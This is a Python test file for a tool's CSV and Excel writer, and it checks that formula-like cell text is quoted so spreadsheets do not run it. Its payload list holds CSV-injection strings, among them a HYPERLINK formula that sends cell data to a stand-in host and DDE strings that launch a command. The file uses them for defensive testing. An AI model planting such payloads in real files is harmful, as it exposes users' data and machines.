"""Spreadsheet formula neutralisation: every CSV the tool writes is inert, and reads back exactly."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from nec_network.io.csv_output import (
    FORMULA_TRIGGERS,
    neutralise_cell,
    neutralise_frame,
    restore_cell,
    write_csv,
)
from nec_network.tables import read_table, repair_mojibake
from nec_network.io.template import read_template, write_template
from nec_network.model import Actor, Ecosystem

PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'=1+1",
)

# Text a person may type: any character but NUL (which no CSV carries) and lone surrogates,
# and not text that ftfy takes for double-encoded UTF-8 (the reader repairs it, by design).
_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")).filter(
    lambda text: repair_mojibake(text) == text
)
# Text that starts with what matters here more often than chance would.
_CELLS = st.one_of(_TEXT, st.builds(lambda head, tail: head + tail,
                                     st.sampled_from(sorted(FORMULA_TRIGGERS | {"'", "''"})), _TEXT),
                   # A person's own apostrophe before a formula sign ('=1+1): theirs, not ours.
                   st.builds(lambda quotes, sign, tail: quotes + sign + tail, st.sampled_from(["'", "''"]),
                             st.sampled_from(sorted(FORMULA_TRIGGERS - {"\t", "\r"})), _TEXT))


def is_inert(cell: str) -> bool:
    """What a spreadsheet would not run: no formula sign first, or a plain signed number."""
    if not cell or cell[0] not in FORMULA_TRIGGERS:
        return True
    return re.fullmatch(r"[-+](\d+([.,]\d*)?|[.,]\d+)([eE][-+]?\d+)?", cell) is not None


def test_each_payload_is_prefixed_with_a_quote():
    for payload in PAYLOADS:
        assert neutralise_cell(payload) == "'" + payload
        assert restore_cell(neutralise_cell(payload)) == payload


def test_numbers_stay_numbers_and_phone_numbers_stay_readable_text():
    assert neutralise_cell("-3.5") == "-3.5"
    assert neutralise_cell("-3,5") == "-3,5"
    assert neutralise_cell("-12") == "-12"
    assert neutralise_cell(-3.5) == -3.5
    assert neutralise_cell("+33 3 22 12 34 56") == "'+33 3 22 12 34 56"
    assert neutralise_cell("+33322121234") == "+33322121234"  # the national schema's form
    assert neutralise_cell("-1+1") == "'-1+1"
    assert neutralise_cell("03 22 12 34 56") == "03 22 12 34 56"
    assert neutralise_cell("Amiens") == "Amiens"


@given(_CELLS)
def test_restore_is_the_exact_inverse_and_the_written_cell_is_inert(text):
    written = neutralise_cell(text)
    assert restore_cell(written) == text
    assert is_inert(written)


@given(st.lists(st.tuples(_CELLS, _CELLS), max_size=5))
def test_write_csv_then_read_table_gives_back_the_text(tmp_path_factory, rows):
    # read_table strips the spaces around a cell (as it always did): the stripped text comes back.
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_csv(path, rows, columns=["a", "b"])
    with path.open(encoding="utf-8", newline="") as stream:
        for record in list(csv.reader(stream))[1:]:
            assert all(is_inert(cell) for cell in record)
    table = read_table(path, delimiter=",")
    # A row is skipped when its cells, as written, are blank; the reader also repairs text that
    # looks double-encoded (a reported correction): the quote itself changes nothing.
    kept = [row for row in rows if any(neutralise_cell(cell).strip() for cell in row)]
    expected = [(repair_mojibake(a.strip()), repair_mojibake(b.strip())) for a, b in kept]
    assert [(row["a"], row["b"]) for row in table.rows] == expected


@given(st.lists(st.tuples(_CELLS, _CELLS), min_size=1, max_size=5))
def test_a_persons_file_is_read_as_typed_and_our_copy_reads_back_the_same(tmp_path_factory, rows):
    """A leading apostrophe a person typed ('=1+1, 'Amiens) is theirs: kept on reading, kept through
    our writer and reader (it used to be taken for our quote and eaten)."""
    folder = tmp_path_factory.mktemp("personne")
    with (folder / "lieux.csv").open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([["a", "b"], *rows])
    typed = [(row["a"], row["b"]) for row in read_table(folder / "lieux.csv", delimiter=",").rows]
    kept = [row for row in rows if any(cell.strip() for cell in row)]
    assert typed == [(repair_mojibake(a.strip()), repair_mojibake(b.strip())) for a, b in kept]
    ours = tmp_path_factory.mktemp("outil") / "copie.csv"
    write_csv(ours, typed, columns=["a", "b"])
    back = [(row["a"], row["b"]) for row in read_table(ours, delimiter=",").rows]
    assert back == [row for row in typed if any(neutralise_cell(cell).strip() for cell in row)]


def test_the_quote_is_ours_only_in_a_file_we_wrote(tmp_path):
    write_csv(tmp_path / "ours.csv", [["=1+1", "'=1+1", "'Amiens"]], columns=["a", "b", "c"])
    assert (tmp_path / "ours.csv").read_text(encoding="utf-8").splitlines()[1] == "'=1+1,''=1+1,'Amiens"
    assert read_table(tmp_path / "ours.csv").rows[0] == {"a": "=1+1", "b": "'=1+1", "c": "'Amiens"}
    # The same bytes in a file the tool did not write: every apostrophe is the person's.
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "theirs.csv").write_bytes((tmp_path / "ours.csv").read_bytes())
    assert read_table(tmp_path / "theirs" / "theirs.csv").rows[0] == {"a": "'=1+1", "b": "''=1+1", "c": "'Amiens"}


def test_frames_keep_numbers_and_neutralise_text_headers_and_index():
    frame = pd.DataFrame({"=nom": ["=1+1", "Amiens"], "distance": [-3.5, 2.0]}, index=["@a", "b"])
    out = io.StringIO()
    write_csv(out, frame, index=True)
    assert out.getvalue().splitlines() == [",'=nom,distance", "'@a,'=1+1,-3.5", "b,Amiens,2.0"]
    assert neutralise_frame(frame)["distance"].dtype == float


def _hostile_ecosystem() -> Ecosystem:
    actors = [
        Actor(id=f"a{rank}", nom=payload, presentation=payload, telephone="+33 3 22 12 34 56",
              code_insee="80021", commune="Amiens", latitude=49.8942, longitude=2.2957)
        for rank, payload in enumerate(PAYLOADS)
    ]
    return Ecosystem(actors, [])


def test_template_round_trip_restores_the_original_text(tmp_path):
    ecosystem = _hostile_ecosystem()
    write_template(ecosystem, tmp_path / "modele")
    with (tmp_path / "modele" / "acteurs.csv").open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert all(is_inert(cell) for cell in cells)
    back, _ = read_template(tmp_path / "modele")
    # The reader strips the spaces around a cell, tabs included, as for any cell.
    assert [actor.nom for actor in back] == [payload.strip() for payload in PAYLOADS]
    assert {actor.telephone for actor in back} == {"+33 3 22 12 34 56"}


def test_workbook_stores_formula_like_text_as_text(tmp_path):
    ecosystem = _hostile_ecosystem()
    path = tmp_path / "modele.xlsx"
    write_template(ecosystem, path)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(path)
    names = [cell.value for cell in workbook["acteurs"]["B"][1:]]
    kinds = {cell.data_type for cell in workbook["acteurs"]["B"][1:]}
    # XML turns a carriage return into a line feed: the only change, and openpyxl's.
    assert names == [payload.replace("\r", "\n") for payload in PAYLOADS] and kinds == {"s"}
    back, _ = read_template(path)
    assert [actor.nom for actor in back] == [payload.strip() for payload in PAYLOADS]


def every_cell(folder: Path) -> list[str]:
    """Every cell of every CSV file under ``folder``."""
    cells = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as stream:
            cells.extend(cell for row in csv.reader(stream) for cell in row)
    return cells
